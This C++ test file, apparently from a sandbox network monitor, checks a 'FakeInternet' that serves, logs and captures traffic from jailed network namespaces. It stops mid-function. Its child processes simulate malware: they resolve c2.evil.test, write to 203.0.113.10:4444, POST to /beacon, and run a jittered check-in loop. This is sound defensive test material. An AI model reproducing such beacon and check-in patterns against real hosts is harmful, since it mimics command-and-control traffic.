// Privileged: a real jail-like network namespace (a forked child that unshared its net
// namespace) attached to a FakeInternet. The child resolves .test names, talks TCP, HTTP,
// TLS and UDP to documentation addresses; the test checks what the fake internet logged,
// that the capture is readable (by our reader and by tshark), and that nothing reached
// or was left on the host.
#include "netmon/fake_internet.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <linux/if_link.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <functional>
#include <memory>
#include <string>
#include <thread>

#include "base/fd.h"
#include "frames.h"
#include "netmon/beacon.h"
#include "netmon/capture.h"
#include "netmon/dns.h"
#include "netmon/packet.h"
#include "netmon/pcap_file.h"
#include "netmon/replay.h"
#include "privileged.h"

namespace gs::netmon {
namespace {

using testing::str;

std::string run(const std::string& cmd) {
  std::string out;
  FILE* p = popen(cmd.c_str(), "r");
  if (!p) return out;
  char buf[4096];
  size_t n;
  while ((n = fread(buf, 1, sizeof buf, p)) > 0) out.append(buf, n);
  pclose(p);
  return out;
}

// Host state that must be identical before and after.
std::string host_snapshot() {
  return run(
      "ip -o link show 2>&1 | sed 's/ qlen.*//' ; ip route show table all 2>&1; ip rule 2>&1; "
      "ip netns list 2>&1; nft list ruleset 2>&1");
}

int count_netns_fds() {
  int n = 0;
  for (const auto& e : std::filesystem::directory_iterator("/proc/self/fd")) {
    std::error_code ec;
    auto target = std::filesystem::read_symlink(e.path(), ec);
    if (!ec && target.string().rfind("net:[", 0) == 0) ++n;
  }
  return n;
}

int count_threads() {
  int n = 0;
  for ([[maybe_unused]] const auto& e : std::filesystem::directory_iterator("/proc/self/task")) ++n;
  return n;
}

// --- what the jailed child does (plain sockets, blocking with timeouts) ---

int tcp_connect(const char* ip, uint16_t port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  timeval tv{3, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(port);
  inet_pton(AF_INET, ip, &sa.sin_addr);
  if (connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa) != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

std::string read_some(int fd, size_t want) {
  std::string out;
  char buf[4096];
  while (out.size() < want) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n <= 0) break;
    out.append(buf, static_cast<size_t>(n));
  }
  return out;
}

// Resolves over UDP with a connected socket, so a reply from the wrong source is lost.
std::string resolve_udp(const char* server, const std::string& name, uint16_t type) {
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  timeval tv{3, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(53);
  inet_pton(AF_INET, server, &sa.sin_addr);
  connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
  auto q = *dns::build_query(name, type, 0x4242);
  send(fd, q.data(), q.size(), 0);
  uint8_t buf[1500];
  ssize_t n = recv(fd, buf, sizeof buf, 0);
  close(fd);
  if (n <= 0) return "no-answer";
  auto m = dns::parse(std::span<const uint8_t>(buf, static_cast<size_t>(n)));
  if (!m.ok() || m->answers.empty()) return "empty";
  return m->answers[0].text;
}

std::string resolve_tcp(const char* server, const std::string& name) {
  int fd = tcp_connect(server, 53);
  if (fd < 0) return "no-connect";
  auto framed = dns::tcp_frame(*dns::build_query(name, dns::kA, 7));
  (void)!write(fd, framed.data(), framed.size());
  std::string r = read_some(fd, 2);
  if (r.size() >= 2)
    r += read_some(fd, static_cast<size_t>((uint8_t(r[0]) << 8 | uint8_t(r[1])) + 2 - r.size()));
  close(fd);
  auto f = dns::tcp_unframe(
      std::span<const uint8_t>(reinterpret_cast<const uint8_t*>(r.data()), r.size()));
  if (!f.ok()) return "bad-frame";
  auto m = dns::parse(f->message);
  return m.ok() && !m->answers.empty() ? m->answers[0].text : "empty";
}

// Returns a line per check: "name=value".
std::string jailed_client(uint16_t host_lo_port) {
  std::string out;
  std::string c2 = resolve_udp(FakeInternet::kResolverAddress, "c2.evil.test", dns::kA);
  out += "dns_a=" + c2 + "\n";
  out += "dns_txt_other_server=" + resolve_udp("203.0.113.53", "cmd.evil.test", dns::kTXT) + "\n";
  out += "dns_tcp=" + resolve_tcp(FakeInternet::kResolverAddress, "c2.evil.test") + "\n";

  int raw = tcp_connect("203.0.113.10", 4444);
  out += std::string("raw_connect=") + (raw >= 0 ? "ok" : "fail") + "\n";
  if (raw >= 0) (void)!write(raw, "hello-c2\n", 9);

  int h = tcp_connect(c2.c_str(), 80);
  if (h >= 0) {
    std::string req =
        "POST /beacon HTTP/1.1\r\nHost: c2.evil.test\r\nUser-Agent: gosandbox-test/1\r\n"
        "Content-Length: 3\r\n\r\nabc";
    (void)!write(h, req.data(), req.size());
    std::string resp = read_some(h, 12);
    out += "http_status=" + resp.substr(0, 12) + "\n";
    close(h);
  }
  int t = tcp_connect(c2.c_str(), 443);
  if (t >= 0) {
    auto hello = testing::client_hello("c2.evil.test", {"h2", "http/1.1"});
    (void)!write(t, hello.data(), hello.size());
    std::string alert = read_some(t, 7);
    out += "tls_alert=" + std::to_string(alert.size() >= 7 ? uint8_t(alert[6]) : 0) + "\n";
    close(t);
  }
  int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(9999);
  inet_pton(AF_INET, "198.51.100.7", &sa.sin_addr);
  for (int i = 0; i < 3; ++i) sendto(u, "ping", 4, 0, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
  close(u);
  int lo = tcp_connect("127.0.0.1", host_lo_port);  // the jail's own loopback, not the host's
  out += std::string("loopback_connect=") + (lo >= 0 ? "ok" : "fail") + "\n";
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  if (raw >= 0) close(raw);
  return out;
}

class FakeInternetTest : public ::testing::Test {
 protected:
  void TearDown() override {
    if (child_ > 0) {
      kill(child_, SIGKILL);
      waitpid(child_, nullptr, 0);
    }
  }
  pid_t child_ = -1;
};

TEST_F(FakeInternetTest, JailTrafficIsServedLoggedCapturedAndContained) {
  GS_REQUIRE_ROOT();
  int threads_before = count_threads();  // before the host watch's thread
  // Watch every interface of the host's namespace: no packet of the jail's may show up.
  std::unique_ptr<Capture> host_watch;
  {
    FD host_ns(open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC));
    auto w = Capture::start(host_ns.get(), {"any", "", 128, 0});
    ASSERT_TRUE(w.ok()) << w.error().message();
    host_watch = std::move(*w);
  }
  std::string before = host_snapshot();
  int netns_fds_before = count_netns_fds();

  // A host loopback listener that must see nothing.
  FD lo(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(lo.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa), 0);
  ASSERT_EQ(listen(lo.get(), 16), 0);
  socklen_t len = sizeof sa;
  getsockname(lo.get(), reinterpret_cast<sockaddr*>(&sa), &len);
  uint16_t lo_port = ntohs(sa.sin_port);

  // The jail-like child: new netns, waits for "go", runs the client, reports on a pipe.
  int go[2], report[2];
  ASSERT_EQ(pipe2(go, O_CLOEXEC), 0);
  ASSERT_EQ(pipe2(report, O_CLOEXEC), 0);
  child_ = fork();
  ASSERT_GE(child_, 0);
  if (child_ == 0) {
    if (unshare(CLONE_NEWNET) != 0) _exit(2);
    (void)!write(report[1], "R", 1);
    char c;
    if (read(go[0], &c, 1) != 1) _exit(3);
    std::string out = jailed_client(lo_port);
    (void)!write(report[1], out.data(), out.size());
    _exit(0);
  }
  close(go[0]);
  close(report[1]);
  char ready;
  ASSERT_EQ(read(report[0], &ready, 1), 1);
  FD jail_ns(open(("/proc/" + std::to_string(child_) + "/ns/net").c_str(), O_RDONLY | O_CLOEXEC));
  ASSERT_TRUE(jail_ns.valid());

  std::string pcap_path = "/tmp/gs-netmon-fi-" + std::to_string(getpid()) + ".pcap";
  FakeInternetOptions opts;
  opts.pcap_path = pcap_path;
  opts.snap_len = 2048;
  auto t0 = std::chrono::steady_clock::now();
  auto fi = FakeInternet::make(jail_ns.get(), opts);
  ASSERT_TRUE(fi.ok()) << fi.error().message();
  auto setup_ms =
      std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0)
          .count();
  jail_ns.reset();
  ASSERT_EQ(write(go[1], "G", 1), 1);
  close(go[1]);

  std::string out;
  char buf[4096];
  ssize_t n;
  while ((n = read(report[0], buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
  close(report[0]);
  int status = 0;
  waitpid(child_, &status, 0);
  child_ = -1;
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
  std::printf("child report:\n%s", out.c_str());

  // What the child saw.
  auto c2 = (*fi)->records().dns.empty() ? std::string() : (*fi)->records().dns[0].answer;
  EXPECT_NE(out.find("dns_a=198.19."), std::string::npos);
  EXPECT_NE(out.find("dns_txt_other_server=v=spf1 -all"), std::string::npos);
  EXPECT_NE(out.find("dns_tcp=" + c2 + "\n"), std::string::npos);
  EXPECT_NE(out.find("raw_connect=ok"), std::string::npos);
  EXPECT_NE(out.find("http_status=HTTP/1.1 200"), std::string::npos);
  EXPECT_NE(out.find("tls_alert=40"), std::string::npos);
  EXPECT_NE(out.find("loopback_connect=fail"), std::string::npos);

  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  ASSERT_TRUE((*fi)->stop().ok());
  auto rec = (*fi)->records();
  auto stats = (*fi)->stats();

  // DNS records.
  ASSERT_GE(rec.dns.size(), 3u);
  EXPECT_EQ(rec.dns[0].name, "c2.evil.test");
  EXPECT_EQ(rec.dns[0].type_name, "A");
  EXPECT_EQ(rec.dns[0].transport, "udp");
  EXPECT_EQ(rec.dns[0].server.to_string(), FakeInternet::kResolverAddress);
  EXPECT_EQ(rec.dns[1].type_name, "TXT");
  EXPECT_EQ(rec.dns[1].server.to_string(), "203.0.113.53");
  EXPECT_EQ(rec.dns[2].transport, "tcp");
  EXPECT_EQ(rec.dns[2].answer, c2);
  EXPECT_EQ((*fi)->name_for(*IpAddr::parse(c2)), "c2.evil.test");

  // Connections.
  const ConnectionRecord *raw = nullptr, *http = nullptr, *tls = nullptr, *udp = nullptr;
  for (const auto& c : rec.connections) {
    if (c.proto == "tcp" && c.dst_port == 4444) raw = &c;
    if (c.proto == "tcp" && c.dst_port == 80) http = &c;
    if (c.proto == "tcp" && c.dst_port == 443) tls = &c;
    if (c.proto == "udp" && c.dst_port == 9999) udp = &c;
  }
  ASSERT_TRUE(raw && http && tls && udp);
  EXPECT_EQ(raw->dst.to_string(), "203.0.113.10");
  EXPECT_EQ(raw->app, "raw");
  EXPECT_EQ(raw->first_bytes_hex, "68656c6c6f2d63320a");
  EXPECT_EQ(raw->bytes_out, 9u);
  EXPECT_EQ(http->dst.to_string(), c2);
  EXPECT_EQ(http->hostname, "c2.evil.test");
  ASSERT_EQ(http->http.size(), 1u);
  EXPECT_EQ(http->http[0].method, "POST");
  EXPECT_EQ(http->http[0].host, "c2.evil.test");
  EXPECT_EQ(http->http[0].path, "/beacon");
  EXPECT_EQ(http->http[0].user_agent, "gosandbox-test/1");
  EXPECT_EQ(http->http[0].body_bytes, 3u);
  EXPECT_EQ(http->http[0].body_sha256,
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_GT(http->bytes_in, 0u);
  EXPECT_EQ(tls->tls_sni, "c2.evil.test");
  EXPECT_EQ(tls->tls_alpn, (std::vector<std::string>{"h2", "http/1.1"}));
  EXPECT_EQ(tls->tls_version, "TLS1.3");
  EXPECT_EQ(udp->dst.to_string(), "198.51.100.7");
  EXPECT_EQ(udp->datagrams, 3u);

  // The capture: our reader and tshark both read it and see the C2 connection.
  EXPECT_EQ(stats.pcap_path, pcap_path);
  EXPECT_EQ(stats.snap_len, 2048u);
  EXPECT_GT(stats.packets_written, 10u);
  auto reader = pcap::Reader::open(pcap_path);
  ASSERT_TRUE(reader.ok()) << reader.error().message();
  bool saw_c2 = false;
  size_t packets = 0;
  for (;;) {
    auto p = reader->next();
    ASSERT_TRUE(p.ok()) << p.error().message();
    if (!p->has_value()) break;
    ++packets;
    auto d = decode_packet(reader->link_type(), (*p)->data);
    if (d.ok() && d->dst.to_string() == "203.0.113.10" && d->dport == 4444) saw_c2 = true;
  }
  EXPECT_TRUE(saw_c2);
  EXPECT_EQ(packets, stats.packets_written);
  std::string tshark =
      run("tshark -r " + pcap_path + " -T fields -e ip.dst -e tcp.dstport 2>/dev/null");
  EXPECT_NE(tshark.find("203.0.113.10\t4444"), std::string::npos) << tshark.substr(0, 500);
  // Offline replay of the capture agrees with what the live servers logged.
  auto again = pcap::Reader::open(pcap_path);
  ASSERT_TRUE(again.ok());
  auto replayed = replay(*again);
  ASSERT_TRUE(replayed.ok()) << replayed.error().message();
  bool replay_tls = false, replay_http = false, replay_dns = false;
  for (const auto& r : replayed->sessions) {
    replay_tls |= r.app == "tls" && r.tls_sni == "c2.evil.test";
    replay_http |= r.app == "http" && !r.http.empty() && r.http[0].path == "/beacon";
  }
  for (const auto& d : replayed->dns) replay_dns |= d.response && d.name == "c2.evil.test";
  EXPECT_TRUE(replay_tls && replay_http && replay_dns);
  bool flow_seen = false;
  for (const auto& f : stats.flows)
    if (f.key.dst.to_string() == "203.0.113.10" && f.key.dport == 4444 && f.stats.payload_out == 9)
      flow_seen = true;
  EXPECT_TRUE(flow_seen);

  std::printf(
      "setup %lld ms; %zu dns, %zu connections; pcap %llu packets, %llu bytes, %llu kernel drops\n",
      static_cast<long long>(setup_ms), rec.dns.size(), rec.connections.size(),
      static_cast<unsigned long long>(stats.packets_written),
      static_cast<unsigned long long>(stats.pcap_bytes),
      static_cast<unsigned long long>(stats.kernel_drops));

  // Nothing leaves, nothing stays.
  fi->reset();
  {
    // A control packet on the host's loopback proves the watch was live.
    FD u(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    sockaddr_in lo_addr{};
    lo_addr.sin_family = AF_INET;
    lo_addr.sin_port = htons(lo_port);
    lo_addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    sendto(u.get(), "control", 7, 0, reinterpret_cast<sockaddr*>(&lo_addr), sizeof lo_addr);
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  host_watch->stop();
  EXPECT_GT(host_watch->stats().packets_captured, 0u) << "the host watch saw nothing at all";
  for (const auto& f : host_watch->flows()) {
    for (const IpAddr* a : {&f.key.src, &f.key.dst}) {
      if (a->family != 4) continue;
      bool ours = (a->bytes[0] == 198 && (a->bytes[1] & 0xFE) == 18) ||
                  (a->bytes[0] == 203 && a->bytes[1] == 0 && a->bytes[2] == 113) ||
                  (a->bytes[0] == 198 && a->bytes[1] == 51 && a->bytes[2] == 100);
      EXPECT_FALSE(ours) << "jail traffic seen on the host: " << a->to_string();
    }
  }
  std::printf("host namespace watch: %llu packets, none of the jail's\n",
              static_cast<unsigned long long>(host_watch->stats().packets_captured));
  host_watch.reset();
  std::remove(pcap_path.c_str());
  sockaddr_in peer{};
  socklen_t plen = sizeof peer;
  EXPECT_LT(accept(lo.get(), reinterpret_cast<sockaddr*>(&peer), &plen), 0)
      << "host loopback got a connection";
  EXPECT_EQ(host_snapshot(), before);
  EXPECT_EQ(count_netns_fds(), netns_fds_before);
  EXPECT_EQ(count_threads(), threads_before);
}

// A C2 loop: resolve once, then check in every ~300 ms (+-30%) with the same small
// payload. The records must carry enough to score it as a beacon, and the fake server
// must hold a silent connection open like a real one.
TEST_F(FakeInternetTest, CheckInLoopScoresAsBeaconAndConnectionsAreHeld) {
  GS_REQUIRE_ROOT();
  int go[2], report[2];
  ASSERT_EQ(pipe2(go, O_CLOEXEC), 0);
  ASSERT_EQ(pipe2(report, O_CLOEXEC), 0);
  child_ = fork();
  ASSERT_GE(child_, 0);
  if (child_ == 0) {
    if (unshare(CLONE_NEWNET) != 0) _exit(2);
    (void)!write(report[1], "R", 1);
    char c;
    if (read(go[0], &c, 1) != 1) _exit(3);
    std::string ip = resolve_udp(FakeInternet::kResolverAddress, "beacon.evil.test", dns::kA);
    int held = tcp_connect("192.0.2.77", 5555);
    unsigned seed = 7;
    for (int i = 0; i < 8; ++i) {
      int fd = tcp_connect(ip.c_str(), 8443);
      if (fd >= 0) (void)!write(fd, "checkin", 7);
      if (fd >= 0) close(fd);
      seed = seed * 1103515245 + 12345;
      int jitter = static_cast<int>((seed >> 16) % 181) - 90;  // +-30% of 300 ms
      std::this_thread::sleep_for(std::chrono::milliseconds(300 + jitter));
    }
    char b;
    ssize_t n = recv(held, &b, 1, MSG_DONTWAIT);
    std::string out = (held >= 0 && n < 0 && errno == EAGAIN) ? "held=open\n" : "held=closed\n";
    (void)!write(report[1], out.data(), out.size());
    _exit(0);
  }
  close(go[0]);
  close(report[1]);
  char ready;
  ASSERT_EQ(read(report[0], &ready, 1), 1);
  FD jail_ns(open(("/proc/" + std::to_string(child_) + "/ns/net").c_str(), O_RDONLY | O_CLOEXEC));
  auto fi = FakeInternet::make(jail_ns.get(), {});
  ASSERT_TRUE(fi.ok()) << fi.error().message();
  ASSERT_EQ(write(go[1], "G", 1), 1);
  close(go[1]);
  std::string out;
  char buf[256];
  ssize_t n;
  while ((n = read(report[0], buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
  close(report[0]);
  waitpid(child_, nullptr, 0);
  child_ = -1;
  EXPECT_EQ(out, "held=open\n");
  ASSERT_TRUE((*fi)->stop().ok());

  std::vector<int64_t> times, sizes;
  for (const auto& c : (*fi)->records().connections) {
    if (c.dst_port != 8443) continue;
    EXPECT_EQ(c.hostname, "beacon.evil.test");
    times.push_back(c.first_ms);
    sizes.push_back(static_cast<int64_t>(c.bytes_out));
  }
  ASSERT_EQ(times.size(), 8u);
  auto s = beacon::score(times, sizes, times.back() - times.front() + 300);
  EXPECT_EQ(s.kind, "beacon");
  EXPECT_GT(s.score, 0.7);
  EXPECT_NEAR(static_cast<double>(s.median_interval_ms), 300, 100);
  std::printf("check-in loop: score %.2f, median %lld ms, jitter %.2f, confidence %.2f\n", s.score,
              static_cast<long long>(s.median_interval_ms), s.jitter, s.confidence);
}

// Runs `client` in a forked child with a fresh network namespace attached to a
// FakeInternet made with `opts`; returns the child's output and leaves `fi` stopped.
std::string run_jailed(const FakeInternetOptions& opts, std::unique_ptr<FakeInternet>& fi,
                       const std::function<std::string()>& client) {
  int go[2], report[2];
  if (pipe2(go, O_CLOEXEC) != 0 || pipe2(report, O_CLOEXEC) != 0) return "pipe failed";
  pid_t child = fork();
  if (child == 0) {
    if (unshare(CLONE_NEWNET) != 0) _exit(2);
    (void)!write(report[1], "R", 1);
    char c;
    if (read(go[0], &c, 1) != 1) _exit(3);
    std::string out = client();
    (void)!write(report[1], out.data(), out.size());
    _exit(0);
  }
  close(go[0]);
  close(report[1]);
  char ready = 0;
  (void)!read(report[0], &ready, 1);
  FD jail_ns(open(("/proc/" + std::to_string(child) + "/ns/net").c_str(), O_RDONLY | O_CLOEXEC));
  auto made = FakeInternet::make(jail_ns.get(), opts);
  std::string out;
  if (made.ok()) {
    fi = std::move(*made);
    (void)!write(go[1], "G", 1);
    char buf[4096];
    ssize_t n;
    while ((n = read(report[0], buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
    (void)fi->stop();
  } else {
    out = "make failed: " + made.error().message();
    kill(child, SIGKILL);
  }
  close(go[1]);
  close(report[0]);
  waitpid(child, nullptr, 0);
  return out;
}

// Hostile code can flood; records stay bounded and the overflow is counted.
TEST_F(FakeInternetTest, RecordBudgetCoversDnsConnectionsAndHttp) {
  GS_REQUIRE_ROOT();
  FakeInternetOptions opts;
  opts.max_records = 6;
  std::unique_ptr<FakeInternet> fi;
  std::string out = run_jailed(opts, fi, [] {
    std::string got;
    for (int i = 0; i < 3; ++i)
      got +=
          resolve_udp(FakeInternet::kResolverAddress, "n" + std::to_string(i) + ".test", dns::kA) +
          "\n";
    int fd = tcp_connect("198.51.100.80", 80);
    std::string req = "GET / HTTP/1.1\r\nHost: flood.test\r\n\r\n";
    for (int i = 0; i < 5 && fd >= 0; ++i) {
      (void)!write(fd, req.data(), req.size());
      got += read_some(fd, 1).empty() ? "no-response\n" : "response\n";
    }
    return got;
  });
  ASSERT_TRUE(fi) << out;
  EXPECT_EQ(out.find("no-"), std::string::npos) << "serving goes on past the budget: " << out;
  auto rec = fi->records();
  auto st = fi->stats();
  // 3 DNS + 1 connection + 2 of the 5 requests fit in 6; the rest are counted as dropped.
  EXPECT_EQ(rec.dns.size(), 3u);
  ASSERT_EQ(rec.connections.size(), 1u);
  EXPECT_EQ(rec.connections[0].http.size(), 2u);
  EXPECT_EQ(st.records_dropped, 3u);
  EXPECT_EQ(st.dns_queries, 3u);
}

// Non-DNS bytes to port 53 are kept as a UDP record; the pcap stops at its size cap,
// stays readable, and the stats say how much was left out.
TEST_F(FakeInternetTest, NonDnsOnPort53AndPcapCapAreAccounted) {
  GS_REQUIRE_ROOT();
  FakeInternetOptions opts;
  opts.pcap_path = "/tmp/gs-netmon-fi-cap-" + std::to_string(getpid()) + ".pcap";
  opts.pcap_max_bytes = 1000;
  std::unique_ptr<FakeInternet> fi;
  std::string out = run_jailed(opts, fi, [] {
    int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(53);
    inet_pton(AF_INET, "192.0.2.53", &sa.sin_addr);
    sendto(u, "hello", 5, 0, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
    close(u);
    std::string got;
    for (int i = 0; i < 5; ++i)
      got += resolve_udp("192.0.2.53", "q" + std::to_string(i) + ".test", dns::kA) + "\n";
    return got;
  });
  ASSERT_TRUE(fi) << out;
  EXPECT_EQ(out.find("no-answer"), std::string::npos) << out;
  auto rec = fi->records();
  auto st = fi->stats();
  ASSERT_EQ(rec.connections.size(), 1u);
  EXPECT_EQ(rec.connections[0].proto, "udp");
  EXPECT_EQ(rec.connections[0].dst_port, 53);
  EXPECT_EQ(rec.connections[0].first_bytes_hex, "68656c6c6f");
  EXPECT_EQ(rec.dns.size(), 5u);
  EXPECT_EQ(st.pcap_max_bytes, 1000u);
  EXPECT_LE(st.pcap_bytes, 1000u);
  EXPECT_GT(st.packets_over_cap, 0u);
  EXPECT_EQ(st.packets_written + st.packets_over_cap, st.packets_captured);
  auto reader = pcap::Reader::open(opts.pcap_path);
  ASSERT_TRUE(reader.ok());
  size_t n = 0;
  for (;;) {
    auto p = reader->next();
    ASSERT_TRUE(p.ok()) << "the capped file must still be whole: " << p.error().message();
    if (!p->has_value()) break;
    ++n;
  }
  EXPECT_EQ(n, st.packets_written);
  fi.reset();
  std::remove(opts.pcap_path.c_str());
}

// Batch mode runs jails side by side: two fake internets at once share nothing (names,
// ports, records, captures), although both use the same addresses and interface names.
TEST_F(FakeInternetTest, TwoAtOnceDoNotSeeEachOther) {
  GS_REQUIRE_ROOT();
  struct Jail {
    pid_t pid = -1;
    int go = -1, report = -1;
    std::unique_ptr<FakeInternet> fi;
  } jails[2];
  // Fork both children before any fake internet thread exists.
  for (int i = 0; i < 2; ++i) {
    int go[2], report[2];
    ASSERT_EQ(pipe2(go, O_CLOEXEC), 0);
    ASSERT_EQ(pipe2(report, O_CLOEXEC), 0);
    pid_t pid = fork();
    ASSERT_GE(pid, 0);
    if (pid == 0) {
      if (unshare(CLONE_NEWNET) != 0) _exit(2);
      (void)!write(report[1], "R", 1);
      char c;
      if (read(go[0], &c, 1) != 1) _exit(3);
      std::string name = i == 0 ? "alpha.test" : "beta.test";
      std::string out = resolve_udp(FakeInternet::kResolverAddress, name, dns::kA);
      int fd = tcp_connect(i == 0 ? "203.0.113.1" : "203.0.113.2", i == 0 ? 1111 : 2222);
      if (fd >= 0) (void)!write(fd, "x", 1), close(fd);
      (void)!write(report[1], out.data(), out.size());
      _exit(0);
    }
    close(go[0]);
    close(report[1]);
    jails[i].pid = pid;
    jails[i].go = go[1];
    jails[i].report = report[0];
    char r;
    ASSERT_EQ(read(report[0], &r, 1), 1);
  }
  for (auto& j : jails) {
    FD ns(open(("/proc/" + std::to_string(j.pid) + "/ns/net").c_str(), O_RDONLY | O_CLOEXEC));
    auto fi = FakeInternet::make(ns.get(), {});
    ASSERT_TRUE(fi.ok()) << fi.error().message();
    j.fi = std::move(*fi);
  }
  for (auto& j : jails) ASSERT_EQ(write(j.go, "G", 1), 1);
  for (auto& j : jails) {
    std::string out;
    char buf[256];
    ssize_t n;
    while ((n = read(j.report, buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
    EXPECT_EQ(out.rfind("198.19.", 0), 0u) << out;
    waitpid(j.pid, nullptr, 0);
    close(j.go);
    close(j.report);
    (void)j.fi->stop();
  }
  for (int i = 0; i < 2; ++i) {
    auto rec = jails[i].fi->records();
    ASSERT_EQ(rec.dns.size(), 1u);
    EXPECT_EQ(rec.dns[0].name, i == 0 ? "alpha.test" : "beta.test");
    ASSERT_EQ(rec.connections.size(), 1u);
    EXPECT_EQ(rec.connections[0].dst_port, i == 0 ? 1111 : 2222);
    EXPECT_FALSE(jails[i].fi->name_for(*IpAddr::parse(rec.dns[0].answer)) == std::nullopt);
  }
  EXPECT_EQ(jails[0].fi->name_for(*IpAddr::parse(jails[1].fi->records().dns[0].answer)),
            std::nullopt);
}

double process_cpu_seconds() {
  timespec ts{};
  clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

// The jail may die first (timeout, kill): its namespace takes the veth pair along. The
// fake internet must notice, not spin, and still tear down to nothing.
TEST_F(FakeInternetTest, JailDyingFirstLeavesNothingAndDoesNotSpin) {
  GS_REQUIRE_ROOT();
  std::string before = host_snapshot();
  int threads_before = count_threads();
  int ready[2];
  ASSERT_EQ(pipe2(ready, O_CLOEXEC), 0);
  child_ = fork();
  ASSERT_GE(child_, 0);
  if (child_ == 0) {
    if (unshare(CLONE_NEWNET) != 0) _exit(2);
    (void)!write(ready[1], "R", 1);
    pause();
    _exit(0);
  }
  close(ready[1]);
  char c;
  ASSERT_EQ(read(ready[0], &c, 1), 1);
  close(ready[0]);
  FD jail_ns(open(("/proc/" + std::to_string(child_) + "/ns/net").c_str(), O_RDONLY | O_CLOEXEC));
  FakeInternetOptions opts;
  opts.pcap_path = "/tmp/gs-netmon-fi-dying-" + std::to_string(getpid()) + ".pcap";
  auto fi = FakeInternet::make(jail_ns.get(), opts);
  ASSERT_TRUE(fi.ok()) << fi.error().message();
  jail_ns.reset();
  kill(child_, SIGKILL);
  waitpid(child_, nullptr, 0);
  child_ = -1;
  std::this_thread::sleep_for(std::chrono::milliseconds(300));  // namespace cleanup is async
  double cpu0 = process_cpu_seconds();
  std::this_thread::sleep_for(std::chrono::milliseconds(500));
  EXPECT_LT(process_cpu_seconds() - cpu0, 0.1) << "a thread spins after the jail died";
  EXPECT_TRUE((*fi)->stats().link_gone) << "the capture should say the link went away";
  EXPECT_EQ((*fi)->stats().capture_error, "") << "a jail ending first is not a capture error";
  EXPECT_TRUE((*fi)->stop().ok());
  fi->reset();
  std::remove(opts.pcap_path.c_str());
  EXPECT_EQ(host_snapshot(), before);
  EXPECT_EQ(count_threads(), threads_before);
}

// Packets the calling thread's namespace's interfaces other than lo sent plus received,
// from the kernel's counters: what a capture of the link must hold.
uint64_t link_packets() {
  struct ifaddrs* ifs = nullptr;
  if (getifaddrs(&ifs) != 0) return ~uint64_t{0};
  uint64_t total = 0;
  for (auto* i = ifs; i; i = i->ifa_next) {
    if (!i->ifa_addr || i->ifa_addr->sa_family != AF_PACKET || !i->ifa_data) continue;
    if (std::string(i->ifa_name) == "lo") continue;
    const auto* st = static_cast<const struct rtnl_link_stats*>(i->ifa_data);
    total += st->tx_packets + st->rx_packets;
  }
  freeifaddrs(ifs);
  return total;
}

// The pcap is evidence: every packet that crossed the link is in it, from the first, and
// the link says nothing the jail did not. (With IPv6 on, both ends sent MLD reports the
// moment the link came up, before the capture existed, then DAD and router solicitations
// for seconds: the capture was 2 packets short of the link and full of noise.)
TEST_F(FakeInternetTest, CaptureHoldsEveryPacketOnTheLinkAndNoneTheJailDidNotSend) {
  GS_REQUIRE_ROOT();
  FakeInternetOptions opts;
  std::unique_ptr<FakeInternet> fi;
  std::string out = run_jailed(opts, fi, [] {
    uint64_t at_start = link_packets();
    // IPv6 autoconf would talk here (MLD at once, DAD within ~1 s).
    std::this_thread::sleep_for(std::chrono::milliseconds(1200));
    uint64_t after_idle = link_packets();
    int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(9999);
    inet_pton(AF_INET, "198.51.100.7", &sa.sin_addr);
    for (int i = 0; i < 20; ++i)
      sendto(u, "ping", 4, 0, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
    close(u);
    int t = tcp_connect("203.0.113.10", 4444);
    if (t >= 0) {
      (void)!write(t, "hello-c2\n", 9);
      close(t);
    }
